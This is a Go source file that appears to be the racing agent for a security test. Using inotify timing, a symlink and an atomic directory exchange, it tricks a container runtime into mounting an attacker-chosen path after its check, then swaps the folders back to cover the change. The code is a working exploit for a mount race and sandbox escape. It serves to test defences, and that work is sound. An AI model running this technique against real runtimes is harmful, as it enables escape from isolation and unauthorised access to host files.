// a19swap WATCH MODE LINKTARGET is the racing agent of
// TestAttack19SecondBottleSwapsANestedMountAfterTheCheck, run in a bottle
// that shares its working directory with another.
//
// It watches the folder WATCH (/workspace/vendor/lib) with inotify: every
// look the host takes at WATCH/.git (an lstat beneath the workspace) opens
// WATCH. The other bottle's resume first settles (its walk of the whole
// workspace opens every folder, /workspace/zz-sentinel last, by name),
// then reviews the recorded entries (one open of WATCH), then checks the
// mount sources (one more), then has the runtime mount WATCH/.git half a
// second or more later. On the second open of WATCH after the sentinel's,
// the agent makes /workspace/.fake/lib/.git a link to LINKTARGET and
// exchanges /workspace/vendor with /workspace/.fake in one rename
// (RENAME_EXCHANGE): the runtime then mounts what the link names. Three
// seconds later, the runtime having mounted, it exchanges them back, so
// the other bottle's settle finds all as it was. It does so once. A MODE
// of "log" only logs; "swap" swaps. Each event goes to /workspace/.a19log
// (A19LOG).
package main

import (
	"fmt"
	"os"
	"syscall"
	"time"
	"unsafe"
)

func main() {
	watch, target := os.Args[1], os.Args[3]
	swapping := os.Args[2] == "swap"
	logPath := os.Getenv("A19LOG")
	if logPath == "" {
		logPath = "/workspace/.a19log"
	}
	log, _ := os.OpenFile(logPath, os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o666)
	t0 := time.Now()
	say := func(format string, a ...any) {
		fmt.Fprintf(log, "%8.3f "+format+"\n", append([]any{time.Since(t0).Seconds()}, a...)...)
	}
	fd, err := syscall.InotifyInit1(syscall.IN_NONBLOCK)
	if err != nil {
		say("inotify: %v", err)
		os.Exit(1)
	}
	if _, err := syscall.InotifyAddWatch(fd, watch, syscall.IN_OPEN); err != nil {
		say("watch: %v", err)
		os.Exit(1)
	}
	say("watching %s", watch)
	os.MkdirAll("/workspace/.fake/lib", 0o755)
	fakeWd, _ := syscall.InotifyAddWatch(fd, "/workspace/.fake/lib", syscall.IN_OPEN)
	os.MkdirAll("/workspace/zz-sentinel", 0o755)
	sentinelWd, _ := syscall.InotifyAddWatch(fd, "/workspace/zz-sentinel", syscall.IN_OPEN)
	afterSentinel := -1 // opens of WATCH since the sentinel's; -1 before it
	buf := make([]byte, 1<<16)
	var swappedAt time.Time
	swapped, done := false, false
	for {
		r, err := syscall.Read(fd, buf)
		if err == syscall.EAGAIN {
			time.Sleep(5 * time.Millisecond)
			r = 0
		} else if err != nil {
			say("read: %v", err)
			os.Exit(1)
		}
		for off := 0; off+syscall.SizeofInotifyEvent <= r; {
			ev := (*syscall.InotifyEvent)(unsafe.Pointer(&buf[off]))
			off += syscall.SizeofInotifyEvent + int(ev.Len)
			if int(ev.Wd) == fakeWd {
				say("the fake folder opened (mask %#x)", ev.Mask)
				continue
			}
			if int(ev.Wd) == sentinelWd {
				say("the sentinel opened: the settle's walk is done")
				afterSentinel = 0
				continue
			}
			say("open (mask %#x)", ev.Mask)
			if afterSentinel >= 0 {
				afterSentinel++
			}
			if swapping && !done && afterSentinel == 2 {
				os.Remove("/workspace/.fake/lib/.git")
				os.Symlink(target, "/workspace/.fake/lib/.git")
				err := exchange("/workspace/vendor", "/workspace/.fake")
				say("swapped: %v", err)
				swapped, swappedAt, done = err == nil, time.Now(), true
			}
		}
		if swapped && time.Since(swappedAt) > 3*time.Second {
			say("swapped back after 3 s: %v", unswap())
			swapped = false
		}
	}
}

func unswap() error {
	err := exchange("/workspace/vendor", "/workspace/.fake")
	os.Remove("/workspace/.fake/lib/.git")
	return err
}

func exchange(a, b string) error {
	pa, _ := syscall.BytePtrFromString(a)
	pb, _ := syscall.BytePtrFromString(b)
	atFdcwd := -100
	const renameExchange, sysRenameat2 = 2, 316
	_, _, e := syscall.Syscall6(sysRenameat2, uintptr(atFdcwd), uintptr(unsafe.Pointer(pa)), uintptr(atFdcwd), uintptr(unsafe.Pointer(pb)), renameExchange, 0)
	if e != 0 {
		return e
	}
	return nil
}
